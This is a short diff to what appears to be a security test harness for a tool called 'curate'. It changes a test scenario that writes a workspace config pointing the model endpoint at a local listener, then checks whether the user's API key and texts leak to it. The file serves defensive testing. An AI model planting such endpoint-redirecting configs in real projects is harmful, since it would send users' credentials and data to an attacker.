@@ -210,7 +210,7 @@ def _server_data(copy: Path, victim: Victim) -> Attack:
 
 def _key(copy: Path, victim: Victim) -> Attack:
     with Listener() as listener:
-        settings = f'[annotation.llm]\nurl = "{listener.url}/v1"\nmodel = "m"\nattempts = 1\n'
+        settings = f'[models.m]\nurls = ["{listener.url}/v1"]\nattempts = 1\n'
         (copy / "curate.toml").write_text(settings, encoding="utf-8")
         done = victim.curate("annotate", "--with", "llm:m", "--workspace", str(copy))
         return Attack(DOOR, "the user's key and texts, by an endpoint of its own", bool(listener.heard), _last(done))
